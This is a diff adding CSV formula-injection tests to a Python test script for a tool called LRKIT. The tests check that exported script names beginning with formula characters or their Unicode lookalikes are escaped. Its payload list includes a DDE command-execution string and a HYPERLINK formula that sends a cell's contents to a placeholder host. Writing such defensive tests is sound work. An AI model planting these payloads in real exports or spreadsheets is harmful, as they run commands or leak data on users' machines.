@@ -6,11 +6,13 @@ needs pyarrow and duckdb. LRKIT is the command, CASE a case or folder.
 """
 
 import csv
+import io
 import json
 import re
 import subprocess
 import sys
 import tempfile
+import unicodedata
 from pathlib import Path
 
 import duckdb
@@ -49,8 +51,50 @@ def same(name, want, got):
                 return
 
 
+STARTS = ["=1+1", "+1", "-1", "@A1", "\uff1dA1", "\uff0b1", "\uff0d1", "\uff20A1", "\ufe66A1", "\u22121", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "'x", "x"]
+BLANKS = ["", " ", "\t", "\r", "\n", "\0", "\v", "\x1b", "\x85", "\xa0", "\xad", "\u0301", "\u1680", "\u2003", "\u200b", "\u200f", "\u2028", "\u202e", "\u2060", "\u2800",
+          "\u3000", "\ufe0f", "\ufeff", "\U000e0041", " \xa0\u200b ", "a;", "a\t", "a,", 'a";', "a\n"]
+
+
+def formula(cell):
+    """Whether the first character that is seen begins a formula, by Python's tables of Unicode."""
+    for c in cell:
+        if unicodedata.category(c) not in ("Zs", "Zl", "Zp", "Cc", "Cf", "Mn", "Me") and c != "\u2800":
+            return unicodedata.normalize("NFKC", c)[0] in "=+-@\u2212"
+    return False
+
+
+def importer(row):
+    """The cells of a row for an importer that divides at commas, semicolons and tabs."""
+    cells = re.findall(r'(?:^|[,;\t])("(?:[^"]|"")*"|[^",;\t]*)(?=[,;\t]|$)', row)
+    return [c[1:-1].replace('""', '"') if c.startswith('"') else c for c in cells]
+
+
+def hostile(lrkit, out):
+    """Cells that would be formulas: names of scripts, which are printed as they are."""
+    names = [blank + start for blank in BLANKS for start in STARTS]
+    source = out / "hostile.json"
+    source.write_text(json.dumps([{"script_name": name, "exit_code": 0, "script_output": r"C:\Windows\a.exe", "script_errors": ""} for name in names]), "utf-8")
+    written = subprocess.run([lrkit, "analyze", "-q", "-f", "csv", source], stdout=subprocess.PIPE).stdout.decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(written, newline="")))
+    check(len(rows) == len(names), f"hostile: {len(rows)} rows, want {len(names)}")
+    for name, row in zip(names, rows):
+        cell = row["script_name"]
+        guarded = formula(name) or name.startswith(("\t", "\r", "\n", "\0", "'"))
+        check(cell.startswith("'") == guarded, f"hostile: {name!r} is written as {cell!r}")
+        plain = all(c.isprintable() or c in "\t\r\n" for c in name)
+        check(not plain or cell.removeprefix("'") == name, f"hostile: {name!r} is written as {cell!r}")
+    one_line = [row for row in written.split("\r\n")[1:-1] if not re.search("[\r\n]", row)]
+    check(len(one_line) > len(names) / 2, f"hostile: {len(one_line)} rows on one line")
+    for row in one_line:
+        cells = importer(row)
+        check(len(cells) == len(rows[0]) and not any(map(formula, cells)), f"hostile: divided at commas, semicolons and tabs: {cells}")
+    print(f"{len(names)} names of scripts that could be formulas: none is one in CSV")
+
+
 def main(lrkit, case):
     out = Path(tempfile.mkdtemp())
+    hostile(lrkit, out)
     for form in FORMATS:
         code = subprocess.run([lrkit, "analyze", "-q", "-f", form, "-o", out / ("findings.parquet" if form == "parquet" else form), case]).returncode
         check(code in (0, 3), f"{form}: exit code {code}")
@@ -74,7 +118,7 @@ def main(lrkit, case):
     formulas = 0
     for a, row in zip(want, rows):
         for column, cell in row.items():
-            if column not in NUMBERS and re.match(r"\s*[=+\-@\t\r\n\0＝＋－＠]", cell):
+            if column not in NUMBERS and (formula(cell) or cell.startswith(("\t", "\r", "\n", "\0"))):
                 formulas += 1
         for column in NUMBERS:
             check(str(a[column] if a[column] is not None else "") == row[column], f"csv: {column} is {row[column]}")
